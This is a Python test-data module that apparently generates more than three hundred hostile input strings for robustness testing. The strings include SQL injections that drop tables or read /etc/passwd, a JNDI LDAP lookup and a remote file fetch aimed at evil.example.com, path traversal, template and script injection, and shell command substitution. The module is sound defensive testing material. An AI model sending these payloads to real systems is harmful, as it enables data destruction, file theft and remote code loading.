"""Strings that try to be more than text, made from parts by a fixed rule."""

from __future__ import annotations

from itertools import product

_ENDINGS = ["'", '"', "')", '")', "'))", "`", "]", "};", "$$", "\\'", "%27", "\x00"]
_ACTS = [
    "; drop table items; --",
    "; attach 'evil.db' as evil; --",
    "; copy (select 1) to 'evil.csv'; --",
    " or read_text('/etc/passwd') is not null --",
    "; install spatial; load spatial; --",
    "; set enable_external_access = true; --",
    "; create table evil as select 1; --",
    " union select * from read_csv('/etc/passwd') --",
    "; pragma database_list; --",
    "; export database 'evil'; --",
    "; call system('touch evil'); --",
    "; insert into items select * from items; --",
    " or 1=1 --",
    "/* */ ; delete from items where true; /*",
    "; checkpoint; vacuum; --",
    "${jndi:ldap://evil.example.com/x}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "https://evil.example.com/x.parquet",
    "s3://evil/x.parquet",
    "<script>alert(1)</script>",
    "|touch evil",
    "$(touch evil)",
    "\n; drop view items; --\n",
    "\u202e; drop table items; --",
]

HOSTILE = ["", " ", *_ACTS, *(f"x{end}{act}" for end, act in product(_ENDINGS, _ACTS))]
"""More than three hundred."""
